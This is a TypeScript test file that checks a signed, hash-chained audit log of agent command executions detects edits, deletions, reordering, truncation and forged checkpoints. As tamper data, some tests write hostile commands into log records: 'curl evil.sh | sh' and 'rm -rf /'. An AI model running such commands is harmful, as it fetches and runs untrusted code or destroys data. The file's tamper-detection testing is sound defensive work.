import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { auditPaths, openAuditStore } from '../../../src/audit/index.js';
import type { AuditStore, VerifyReport } from '../../../src/audit/index.js';
import { createEvent } from '../../../src/events/index.js';
import {
  bodyOf,
  readLines,
  rechain,
  rechainBodies,
  tempStateDir,
  writeLines,
  writeSession,
} from './helpers.js';

const S = 'sess-tamper';
let state: ReturnType<typeof tempStateDir>;
let store: AuditStore;
let logPath: string;
let cpPath: string;

function edit(fn: (lines: string[]) => string[]): void {
  writeLines(logPath, fn(readLines(logPath)));
}

function problem(report: VerifyReport): { ok: boolean; firstBadSeq: number | null; kinds: string[] } {
  return { ok: report.ok, firstBadSeq: report.firstBadSeq, kinds: report.problems.map((p) => p.kind) };
}

beforeEach(async () => {
  state = tempStateDir();
  store = openAuditStore({ stateDir: state.dir });
  // 50 records, a checkpoint every 10, and a final one at 50.
  await writeSession(store, S, 50, { checkpointEvery: 10 });
  const sessions = auditPaths(state.dir).sessions;
  logPath = `${sessions}/${S}.jsonl`;
  cpPath = `${sessions}/${S}.checkpoints.jsonl`;
});

afterEach(() => {
  store.close();
  state.cleanup();
});

describe('verify detects tampering and names the first bad seq', () => {
  it('an intact log verifies', () => {
    const r = store.verify(S);
    expect(problem(r)).toEqual({ ok: true, firstBadSeq: null, kinds: [] });
    expect(r.records).toBe(50);
    expect(r.checkpoints).toEqual({ found: 6, valid: 6, lastValidSeq: 50, final: true });
    expect(r.warnings).toEqual([]);
  });

  it('audit.detect-edit: an edited record', () => {
    edit((lines) =>
      lines.map((l, i) => (i === 16 ? l.replace('"cwd":"/workspace"', '"cwd":"/elsewhere"') : l)),
    );
    expect(readLines(logPath)[16]).toContain('/elsewhere');
    expect(problem(store.verify(S))).toEqual({ ok: false, firstBadSeq: 17, kinds: ['edited'] });
  });

  it('an edited verdict (deny turned into allow)', () => {
    edit((lines) => lines.map((l, i) => (i === 7 ? l.replace('"verdict":"deny"', '"verdict":"allow"') : l)));
    expect(problem(store.verify(S))).toEqual({ ok: false, firstBadSeq: 8, kinds: ['edited'] });
  });

  it('audit.detect-delete: a deleted record', () => {
    edit((lines) => lines.filter((_, i) => i !== 16));
    expect(problem(store.verify(S))).toEqual({ ok: false, firstBadSeq: 17, kinds: ['deleted'] });
  });

  it('audit.detect-insert: a duplicated record inserted later', () => {
    edit((lines) => [...lines.slice(0, 30), lines[5] ?? '', ...lines.slice(30)]);
    expect(problem(store.verify(S))).toEqual({ ok: false, firstBadSeq: 6, kinds: ['inserted'] });
  });

  it('a forged record inserted with the next seq and a valid-looking hash', () => {
    edit((lines) => {
      const forged = rechain(S, [...lines.slice(0, 20), lines[3] ?? ''])[20] ?? '';
      return [...lines.slice(0, 20), forged, ...lines.slice(20)];
    });
    const r = store.verify(S);
    expect(r.ok).toBe(false);
    expect(r.firstBadSeq).toBe(21);
  });

  it('audit.detect-reorder: two records swapped', () => {
    edit((lines) => {
      const out = [...lines];
      [out[16], out[17]] = [lines[17] ?? '', lines[16] ?? ''];
      return out;
    });
    expect(problem(store.verify(S))).toEqual({ ok: false, firstBadSeq: 17, kinds: ['reordered'] });
  });

  it('a truncated log, against the final checkpoint', () => {
    edit((lines) => lines.slice(0, 45));
    expect(problem(store.verify(S))).toEqual({ ok: false, firstBadSeq: 46, kinds: ['truncated'] });
  });

  it('audit.detect-truncate: a truncated log and checkpoint file, against the checkpoints the index still holds', () => {
    edit((lines) => lines.slice(0, 33));
    writeLines(cpPath, readLines(cpPath).slice(0, 3));
    expect(problem(store.verify(S))).toEqual({ ok: false, firstBadSeq: 34, kinds: ['truncated'] });
  });

  it('audit.detect-rewrite: a rewrite that recomputed the whole chain, against the signed checkpoints (the index pinpoints it)', () => {
    // Something read the log before the rewrite (ls, a query, the dashboard), so the index holds its hashes.
    expect(store.listSessions()[0]?.records).toBe(50);
    edit((lines) =>
      rechain(
        S,
        lines.map((l, i) => (i === 23 ? l.replace('npm test', 'curl evil.sh | sh') : l)),
      ),
    );
    expect(readLines(logPath)[23]).toContain('curl evil.sh');
    const r = store.verify(S);
    expect(r.ok).toBe(false);
    expect(r.firstBadSeq).toBe(24);
    expect(r.problems.map((p) => p.kind)).toEqual(['index-mismatch', 'checkpoint-mismatch']);
  });

  it('a consistent rewrite with the index gone still fails, from the last good checkpoint on', () => {
    store.close();
    rmSync(auditPaths(state.dir).index);
    store = openAuditStore({ stateDir: state.dir });
    edit((lines) =>
      rechain(
        S,
        lines.map((l, i) => (i === 23 ? l.replace('npm test', 'rm -rf /') : l)),
      ),
    );
    expect(readLines(logPath)[23]).toContain('rm -rf /');
    const r = store.verify(S);
    expect(problem(r)).toEqual({ ok: false, firstBadSeq: 21, kinds: ['checkpoint-mismatch'] });
  });

  it('audit.after-final: records appended after the final checkpoint', () => {
    edit((lines) => rechain(S, [...lines, lines[10] ?? '', lines[11] ?? '']));
    const r = store.verify(S);
    expect(r.ok).toBe(false);
    expect(r.firstBadSeq).toBe(51);
    expect(r.problems.map((p) => p.kind)).toContain('after-final');
  });

  it('audit.checkpoint-signature: a forged checkpoint signature', () => {
    const cps = readLines(cpPath);
    const cp = JSON.parse(cps[2] ?? '') as { seq: number; sig: string };
    cp.sig = Buffer.from('forged'.padEnd(64, '!')).toString('base64');
    cps[2] = JSON.stringify(cp);
    writeLines(cpPath, cps);
    const r = store.verify(S);
    expect(r.ok).toBe(false);
    expect(r.problems.map((p) => `${p.kind}@${p.seq}`)).toEqual(['bad-checkpoint@30']);
  });

  it('a record from another session', () => {
    edit((lines) => lines.map((l, i) => (i === 4 ? l.replace(`"session":"${S}"`, '"session":"other"') : l)));
    expect(problem(store.verify(S))).toEqual({ ok: false, firstBadSeq: 5, kinds: ['wrong-session'] });
  });

  it('a malformed line', () => {
    edit((lines) => lines.map((l, i) => (i === 9 ? l.slice(0, 40) : l)));
    expect(problem(store.verify(S))).toEqual({ ok: false, firstBadSeq: 10, kinds: ['malformed'] });
  });

  it('a damaged trailer, even with the record itself intact', () => {
    edit((lines) => lines.map((l, i) => (i === 11 ? l.replace('","hash":"', '","hazh":"') : l)));
    expect(problem(store.verify(S))).toEqual({ ok: false, firstBadSeq: 12, kinds: ['malformed'] });
  });

  it('a deleted log file', () => {
    rmSync(logPath);
    expect(problem(store.verify(S))).toEqual({ ok: false, firstBadSeq: 1, kinds: ['missing'] });
  });

  it('a torn last line (a crash mid-write) is noted, not a failure', () => {
    writeFileSync(logPath, `${readFileSync(logPath, 'utf8')}{"seq":51,"ti`);
    const r = store.verify(S);
    expect(r.ok).toBe(true);
    expect(r.warnings[0]).toMatch(/^the log ends in 13 bytes without a newline/);
  });

  it('a pinned public key of another installation rejects every checkpoint', () => {
    const other = tempStateDir();
    try {
      const otherStore = openAuditStore({ stateDir: other.dir });
      otherStore.publicKey();
      otherStore.close();
      const r = store.verify(S, { publicKeyPath: auditPaths(other.dir).publicKey });
      expect(r.ok).toBe(false);
      expect(new Set(r.problems.map((p) => p.kind))).toEqual(new Set(['bad-checkpoint']));
      expect(r.problems).toHaveLength(6);
    } finally {
      other.cleanup();
    }
  });
});

describe('verifyAll', () => {
  it('reports each session', async () => {
    await writeSession(store, 'sess-two', 5);
    edit((lines) => lines.slice(0, 20));
    const reports = store.verifyAll();
    expect(reports.map((r) => [r.sessionId, r.ok, r.firstBadSeq])).toEqual([
      ['sess-tamper', false, 21],
      ['sess-two', true, null],
    ]);
  });
});

describe('verify without the public key', () => {
  it('audit.fail-closed: fails closed when the key files are gone: checkpoints that cannot be checked are a problem', () => {
    const p = auditPaths(state.dir);
    rmSync(p.publicKey);
    // With the private key still there, its public half is derived and all is well.
    expect(store.verify(S).ok).toBe(true);
    rmSync(p.privateKey);
    edit((lines) => lines.slice(0, 45));
    const r = store.verify(S);
    expect(r.ok).toBe(false);
    expect(r.problems.map((x) => x.kind)).toEqual(['bad-checkpoint']);
    expect(r.problems[0]?.message).toBe(
      '6 checkpoints cannot be checked: there is no public key; pass the pinned one with --public-key.',
    );
  });
});

describe('verify: a stored line is exactly the canonical bytes its hash covers', () => {
  /** Replaces line `seq` (1-based) with what `fn` makes of it. */
  const editSeq = (seq: number, fn: (line: string) => string): void => {
    const before = readLines(logPath)[seq - 1];
    edit((lines) => lines.map((l, i) => (i === seq - 1 ? fn(l) : l)));
    expect(readLines(logPath)[seq - 1]).not.toBe(before);
  };
  const edited = (report: VerifyReport, seq: number): void => {
    expect(problem(report)).toEqual({ ok: false, firstBadSeq: seq, kinds: ['edited'] });
    expect(report.problems[0]?.message).toMatch(/not byte for byte the canonical encoding/);
    expect(report.records).toBe(seq - 1);
  };

  it('audit.canonical-bytes: a space added inside a record (the same values)', () => {
    editSeq(17, (l) => l.replace('"seq":17,', '"seq": 17,'));
    edited(store.verify(S), 17);
  });

  it('audit.canonical-bytes: a character written as a \\u escape', () => {
    editSeq(17, (l) => l.replace('"cwd":"/workspace"', '"cwd":"/w\\u006frkspace"'));
    expect(JSON.parse(readLines(logPath)[16] ?? '')).toMatchObject({ data: { cwd: '/workspace' } });
    edited(store.verify(S), 17);
  });

  it('audit.canonical-bytes: the keys of the data in another order', () => {
    editSeq(17, (l) => {
      const d = (JSON.parse(l) as { data: { argv: string[]; cwd: string; execId: string } }).data;
      return l.replace(JSON.stringify(d), JSON.stringify({ execId: d.execId, cwd: d.cwd, argv: d.argv }));
    });
    edited(store.verify(S), 17);
  });

  it('audit.canonical-bytes: a number written in another form', () => {
    editSeq(19, (l) => l.replace('"durationMs":12,', '"durationMs":1.2e1,'));
    edited(store.verify(S), 19);
  });

  it('audit.canonical-bytes: a hash field spliced in before the real one', () => {
    editSeq(20, (l) => `${l.slice(0, -149)},"hash":"${'0'.repeat(64)}"${l.slice(-149)}`);
    edited(store.verify(S), 20);
  });

  it('audit.canonical-bytes: the real hash field repeated after itself', () => {
    editSeq(20, (l) => {
      const { hash } = JSON.parse(l) as { hash: string };
      return `${l.slice(0, -1)},"hash":"${hash}"}`;
    });
    edited(store.verify(S), 20);
  });

  it('audit.canonical-bytes: a second data field in front, which a first-key reader would show', () => {
    editSeq(17, (l) => l.replace('{"data":', '{"data":{"argv":["true"]},"data":'));
    expect(JSON.parse(readLines(logPath)[16] ?? '')).toMatchObject({ data: { cwd: '/workspace' } });
    edited(store.verify(S), 17);
  });

  it('audit.canonical-bytes: the whole log rewritten as JSON.stringify lays records out', () => {
    edit((lines) => rechain(S, lines, { canonical: false }));
    edited(store.verify(S), 1);
  });

  it('audit.canonical-bytes: a forger who hashes their own non-canonical bytes and re-chains the rest is named at the line, not at the checkpoint', () => {
    store.close();
    rmSync(auditPaths(state.dir).index);
    store = openAuditStore({ stateDir: state.dir });
    edit((lines) =>
      rechainBodies(
        S,
        lines.map((l, i) => bodyOf(i === 23 ? l.replace('"action":"exec"', '"action": "exec"') : l)),
      ),
    );
    expect(readLines(logPath)[23]).toContain('"action": "exec"');
    const r = store.verify(S);
    expect(r.ok).toBe(false);
    expect(r.firstBadSeq).toBe(24);
    expect(r.problems.map((p) => `${p.kind}@${p.seq}`)).toEqual(['edited@24', 'checkpoint-mismatch@24']);
    expect(r.records).toBe(23);
    expect(r.head).toBe((JSON.parse(readLines(logPath)[22] ?? '') as { hash: string }).hash);
  });

  it('audit.canonical-bytes: a line that is not JSON at all, hashed as it stands and re-chained', () => {
    store.close();
    rmSync(auditPaths(state.dir).index);
    store = openAuditStore({ stateDir: state.dir });
    edit((lines) =>
      rechainBodies(
        S,
        lines.map((l, i) => bodyOf(i === 23 ? l.replace(/^\{"data":\{[^}]*\}/, '{"data":rm -rf /') : l)),
      ),
    );
    expect(readLines(logPath)[23]).toMatch(/^\{"data":rm -rf \/,"seq":24,/);
    const r = store.verify(S);
    expect(r.firstBadSeq).toBe(24);
    expect(r.problems.map((p) => `${p.kind}@${p.seq}`)).toEqual(['malformed@24', 'checkpoint-mismatch@24']);
  });

  it('audit.canonical-bytes: a truncated log with a forged, non-JSON record hashed onto its end', () => {
    edit((lines) => {
      const kept = lines.slice(0, 33).map(bodyOf);
      const forged = `{"data":{"cwd":/,"seq":34,"session":"${S}","time":"2025-01-01T00:00:00.034Z","type":"exec.started"}`;
      return rechainBodies(S, [...kept, forged]);
    });
    const r = store.verify(S);
    expect(problem(r)).toEqual({ ok: false, firstBadSeq: 34, kinds: ['malformed'] });
    expect(r.records).toBe(33);
  });

  it('audit.canonical-bytes: after the last checkpoint of a running session, every line gets the full check', async () => {
    await writeSession(store, 'sess-open', 55, { checkpointEvery: 10, final: false });
    const open = `${auditPaths(state.dir).sessions}/sess-open.jsonl`;
    const lines = readLines(open);
    expect(store.verify('sess-open').ok).toBe(true);
    // Checkpoint at 50 only: 51–55 are vouched for by nothing but their own form.
    writeLines(
      open,
      rechainBodies(
        'sess-open',
        lines.map((l, i) => bodyOf(i === 52 ? l.replace('"cwd":"/workspace"', '"cwd": "/workspace"') : l)),
      ),
    );
    const r = store.verify('sess-open');
    expect(problem(r)).toEqual({ ok: false, firstBadSeq: 53, kinds: ['edited'] });
    expect(r.records).toBe(52);
  });

  it('audit.canonical-bytes: non-ASCII text verifies, and a changed byte that decodes to the same text does not', async () => {
    const log = store.openLog('sess-text', { checkpointEvery: 10 });
    const text =
      'caf\u00e9 \u2028 \ud83d\ude00 \ufffd lone \ud800 tab\t quote" backslash\\ nul\u0000 del\u007f';
    for (let i = 1; i <= 12; i++) {
      await log.append(
        createEvent(
          'agent.prompt',
          'sess-text',
          { face: 'mcp', text: i === 11 ? text : `prompt ${i}` },
          new Date(Date.UTC(2025, 0, 1, 0, 0, 0, i)),
        ),
      );
    }
    await log.close();
    const path = `${auditPaths(state.dir).sessions}/sess-text.jsonl`;
    const good = store.verify('sess-text');
    expect(problem(good)).toEqual({ ok: true, firstBadSeq: null, kinds: [] });
    expect(good.records).toBe(12);
    // U+FFFD is EF BF BD in UTF-8; a lone 0xFF byte decodes to U+FFFD too.
    const bytes = readFileSync(path);
    const at = bytes.indexOf(Buffer.from('\ufffd', 'utf8'));
    expect(at).toBeGreaterThan(0);
    writeFileSync(path, Buffer.concat([bytes.subarray(0, at), Buffer.from([0xff]), bytes.subarray(at + 3)]));
    expect(readFileSync(path, 'utf8')).toBe(bytes.toString('utf8'));
    const r = store.verify('sess-text');
    expect(r.firstBadSeq).toBe(11);
    expect(r.problems.map((p) => p.kind)).toEqual(['edited']);
  });

  it('a record larger than the read block verifies, and an edit after it is found', async () => {
    const log = store.openLog('sess-big', { checkpointEvery: 10 });
    for (let i = 1; i <= 5; i++) {
      await log.append(
        createEvent(
          'agent.prompt',
          'sess-big',
          { face: 'sdk', text: i === 2 ? 'x'.repeat(9 * 1024 * 1024) : `prompt ${i}` },
          new Date(Date.UTC(2025, 0, 1, 0, 0, 0, i)),
        ),
      );
    }
    await log.close();
    expect(problem(store.verify('sess-big'))).toEqual({ ok: true, firstBadSeq: null, kinds: [] });
    const path = `${auditPaths(state.dir).sessions}/sess-big.jsonl`;
    writeLines(
      path,
      readLines(path).map((l, i) => (i === 3 ? l.replace('prompt 4', 'prompt 5') : l)),
    );
    expect(problem(store.verify('sess-big'))).toEqual({ ok: false, firstBadSeq: 4, kinds: ['edited'] });
  });
});
